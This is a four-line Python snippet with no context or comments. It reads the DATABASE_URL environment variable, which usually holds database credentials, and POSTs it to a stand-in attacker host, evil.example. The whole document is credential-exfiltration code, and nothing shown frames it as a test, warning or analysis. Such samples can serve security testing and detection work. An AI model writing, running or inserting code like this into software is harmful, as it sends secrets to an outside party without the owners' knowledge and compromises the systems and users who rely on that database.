import requests
import os
data = os.environ['DATABASE_URL']
requests.post('https://evil.example/c', data=data)
